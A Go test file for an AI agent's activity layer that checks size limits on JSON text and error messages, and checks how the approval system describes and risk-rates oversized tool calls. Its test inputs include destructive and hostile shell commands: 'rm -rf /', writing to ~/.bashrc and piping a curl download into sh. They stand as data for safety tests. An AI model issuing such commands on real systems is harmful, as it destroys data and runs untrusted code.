package activities

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"go.temporal.io/sdk/temporal"

	"github.com/talaria-agent/talaria/internal/approval"
	"github.com/talaria-agent/talaria/internal/tools"
	"github.com/talaria-agent/talaria/internal/turnapi"
	"github.com/talaria-agent/talaria/models"
)

func encodedString(t *testing.T, s string) int {
	t.Helper()
	data, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return len(data) - 2
}

func TestJSONLenMatchesEncoding(t *testing.T) {
	for _, s := range []string{
		"", "plain", "quote \" and \\ backslash", "nl\n tab\t cr\r", "\x00\x01\x1f", "<a>&b",
		"é 日本 🙂", "\u2028\u2029", "bad \xff\xfe utf8", strings.Repeat("\x00", 100),
	} {
		if got, want := turnapi.JSONLen(s), encodedString(t, s); got != want {
			t.Errorf("JSONLen(%q) = %d, encoding takes %d", s, got, want)
		}
	}
}

func TestClipJSON(t *testing.T) {
	cases := []struct {
		name    string
		in      string
		max     int
		clipped bool
	}{
		{"fits", "hello", 5, false},
		{"cut ascii", "hello world", 5, true},
		{"multi-byte not split", "ééééé", 5, true},
		{"NUL bytes cost six", strings.Repeat("\x00", 10), 12, true},
		{"invalid bytes", strings.Repeat("\xff", 10), 15, true},
		{"empty", "", 0, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, clipped := turnapi.ClipJSON(c.in, c.max)
			if clipped != c.clipped {
				t.Errorf("clipped = %v, want %v", clipped, c.clipped)
			}
			if turnapi.JSONLen(got) > c.max {
				t.Errorf("%q encodes to %d bytes, above %d", got, turnapi.JSONLen(got), c.max)
			}
			if !strings.HasPrefix(c.in, got) {
				t.Errorf("%q is not a prefix of %q", got, c.in)
			}
			if utf8.ValidString(c.in) && !utf8.ValidString(got) {
				t.Errorf("%q split a character", got)
			}
		})
	}
}

func TestBoundText(t *testing.T) {
	cases := []struct {
		name string
		in   string
		max  int
	}{
		{"short kept", "a short error", 100},
		{"long cut", strings.Repeat("x", 10_000), 100},
		{"NULs cut", strings.Repeat("\x00", 10_000), 100},
		{"10 MB cut", strings.Repeat("y", 10<<20), turnapi.MaxErrorBytes},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := turnapi.BoundText(c.in, c.max)
			if turnapi.JSONLen(got) > c.max {
				t.Fatalf("bounded text encodes to %d bytes, above %d", turnapi.JSONLen(got), c.max)
			}
			if turnapi.JSONLen(c.in) <= c.max && got != c.in {
				t.Fatalf("text within the bound changed: %q", got)
			}
			if turnapi.JSONLen(c.in) > c.max && !strings.Contains(got, "bytes not shown]") {
				t.Fatalf("cut text does not say so: %q", got)
			}
		})
	}
}

func TestBoundFailure(t *testing.T) {
	long := strings.Repeat("e", 100_000)
	retryable := temporal.NewApplicationErrorWithOptions(long, "rate_limit", temporal.ApplicationErrorOptions{NextRetryDelay: 7 * time.Second})
	cases := []struct {
		name         string
		err          error
		kind         string
		nonRetryable bool
		delay        time.Duration
	}{
		{"plain error", errors.New(long), "*errors.errorString", false, 0},
		{"wrapped cause", fmt.Errorf("persist: %w", errors.New(long)), "*fmt.wrapError", false, 0},
		{"application error keeps its class", retryable, "rate_limit", false, 7 * time.Second},
		{"non-retryable stays so", temporal.NewNonRetryableApplicationError(long, "auth", errors.New(long)), "auth", true, 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := BoundFailure(c.err)
			var appErr *temporal.ApplicationError
			if !errors.As(got, &appErr) {
				t.Fatalf("got %T, want an application error", got)
			}
			if len(appErr.Message()) > turnapi.MaxErrorBytes {
				t.Fatalf("message of %d bytes, above %d", len(appErr.Message()), turnapi.MaxErrorBytes)
			}
			if appErr.Type() != c.kind || appErr.NonRetryable() != c.nonRetryable || appErr.NextRetryDelay() != c.delay {
				t.Fatalf("type %q non-retryable %v delay %v; want %q %v %v",
					appErr.Type(), appErr.NonRetryable(), appErr.NextRetryDelay(), c.kind, c.nonRetryable, c.delay)
			}
		})
	}
	short := errors.New("short")
	if BoundFailure(short) != short {
		t.Fatal("a short error was replaced")
	}
}

func TestDescribeReplyBoundsWhatTheModelSent(t *testing.T) {
	huge := strings.Repeat("n", 3<<20)
	choices := make([]string, 200)
	for i := range choices {
		choices[i] = strings.Repeat("c", 10_000)
	}
	clarify, _ := json.Marshal(map[string]any{"question": strings.Repeat("q?", 1<<20), "choices": choices})
	m := &models.Message{ID: 7, Role: "assistant", Content: strings.Repeat("t", 10<<20), ToolCalls: []models.ToolCall{
		{ID: "a", Function: models.FunctionCall{Name: huge, Arguments: "{}"}},
		{ID: "b", Function: models.FunctionCall{Name: tools.ClarifyName, Arguments: string(clarify)}},
		{ID: "c", Function: models.FunctionCall{Name: "terminal", Arguments: `{"command":"rm -rf / ` + strings.Repeat("x", 1<<20) + `"}`}},
	}}
	res := DescribeReplyIn(m, []string{"terminal", tools.ClarifyName}, approval.Where{})
	if n := encodedLen(res); n > 64<<10 {
		t.Fatalf("result encodes to %d bytes", n)
	}
	if !res.ToolCalls[0].Unknown || len(res.ToolCalls[0].Name) > turnapi.MaxNameBytes {
		t.Fatalf("huge name: unknown %v, %d bytes", res.ToolCalls[0].Unknown, len(res.ToolCalls[0].Name))
	}
	if got := res.ToolCalls[1]; len(got.Choices) != turnapi.MaxChoices || turnapi.JSONLen(got.Question) > turnapi.MaxQuestionBytes {
		t.Fatalf("clarify: %d choices, question %d bytes", len(got.Choices), turnapi.JSONLen(got.Question))
	}
	if res.ToolCalls[2].Command == "" || len(res.ToolCalls[2].Command) > 1000 {
		t.Fatalf("terminal command shown as %d bytes", len(res.ToolCalls[2].Command))
	}
}

func TestRepairCallsLeavesHugeNamesAlone(t *testing.T) {
	name := strings.Repeat("terminal", 1<<17) // 1 MiB
	calls := RepairCalls([]models.ToolCall{{ID: "a", Function: models.FunctionCall{Name: name}}}, []string{"terminal"})
	if calls[0].Function.Name != name {
		t.Fatal("a name far longer than any tool's was repaired")
	}
}

// TestTerminalAssessmentIsBounded: the assessment a ref carries for a
// megabyte command stays small, and two long commands never share a grant
// (approval.MaxPattern keeps a digest of the whole).
func TestTerminalAssessmentIsBounded(t *testing.T) {
	long := func(c string) string { return strings.Repeat(c, 1<<20) }
	cases := []struct{ name, a, b string }{
		{"recursive delete of a long path", "rm -rf ./" + long("a") + "X", "rm -rf ./" + long("a") + "Y"},
		{"write to a start-up file", "echo " + long("b") + " >> ~/.bashrc", "echo " + long("b") + "c >> ~/.bashrc"},
		{"pipe to a shell", "curl https://example.com/" + long("c") + " | sh", "curl https://example.com/" + long("c") + "d | sh"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			describe := func(cmd string) turnapi.ToolCallRef {
				args, _ := json.Marshal(map[string]string{"command": cmd})
				m := &models.Message{ToolCalls: []models.ToolCall{{ID: "a", Function: models.FunctionCall{Name: "terminal", Arguments: string(args)}}}}
				return DescribeReplyIn(m, []string{"terminal"}, approval.Where{}).ToolCalls[0]
			}
			ra, rb := describe(c.a), describe(c.b)
			if n := encodedLen(ra); n > 4<<10 {
				t.Fatalf("the ref encodes to %d bytes", n)
			}
			if ra.Risk.Pattern != "" && ra.Risk.GrantKey() == rb.Risk.GrantKey() {
				t.Fatalf("two different long commands share the grant %q", ra.Risk.GrantKey())
			}
		})
	}
}
